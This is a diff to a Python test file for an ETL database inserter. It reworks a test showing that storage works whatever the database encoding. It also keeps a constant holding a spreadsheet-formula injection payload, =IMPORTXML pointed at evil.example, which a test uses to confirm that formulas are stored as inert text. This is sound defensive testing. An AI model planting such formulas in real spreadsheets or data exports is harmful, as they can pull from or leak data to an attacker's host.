@@ -2,20 +2,18 @@
 
 from __future__ import annotations
 
-from collections.abc import Iterator
+from collections.abc import Callable
 from typing import Any
 
-import psycopg2
-import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from psycopg2.extensions import connection
 
 from etl.components.database_inserter import DatabaseInserter
 from etl.demo.campus import record
-from tests.conftest import Parameters
-from tests.database_inserter.batches import UTC_ZONE, batch, entry, insert, opened, rows_of
-from tests.database_inserter.conftest import Execute
+from tests.conftest import Parameters, rows_in
+from tests.database_inserter.batches import batch, entry, insert, opened, rows_of
+from tests.database_inserter.conftest import Build, Execute
 
 FORMULA = '=IMPORTXML("https://evil.example","//a")'
 AWKWARD = (
@@ -72,24 +70,13 @@ def test_r8_a_formula_is_stored_as_the_text_that_it_is(
     assert select("SELECT user_id, lis_result_sourcedid FROM attempts") == [("=1+1", FORMULA)]
 
 
-@pytest.fixture
-def ascii_database(database: Parameters, execute: Execute) -> Iterator[Parameters]:
-    """A database of an administrator who did not choose an encoding."""
-    execute(
-        "CREATE DATABASE unencoded TEMPLATE template0"
-        " ENCODING 'SQL_ASCII' LOCALE_PROVIDER libc LOCALE 'C'"
-    )
-    yield {**database, "dbname": "unencoded"}
-    execute("DROP DATABASE unencoded WITH (FORCE)")
-
-
-def test_d5_the_encoding_of_the_database_is_of_no_importance(ascii_database: Parameters) -> None:
-    inserter = opened(DatabaseInserter(lambda: ascii_database, zone=UTC_ZONE))
+def test_d5_the_encoding_of_the_database_is_of_no_importance(
+    build: Build, encoded: Callable[[str], Parameters]
+) -> None:
+    server = encoded("SQL_ASCII")
+    inserter = opened(build(server=server))
     assert insert(inserter, rows_of(attempts([("ключ", "🎓", None)]))).inserted == 1
     assert insert(inserter, batch('"Опечатка"')).rejected == 1
     inserter.close(entry())
-    session = psycopg2.connect(**ascii_database, client_encoding="UTF8")
-    with session.cursor() as at:
-        at.execute("SELECT oauth_consumer_key, record FROM attempts, rejected_attempts")
-        assert at.fetchall() == [("ключ", '"Опечатка"')]
-    session.close()
+    stored = "SELECT oauth_consumer_key, record FROM attempts, rejected_attempts"
+    assert rows_in({**server, "client_encoding": "UTF8"}, stored) == [("ключ", '"Опечатка"')]
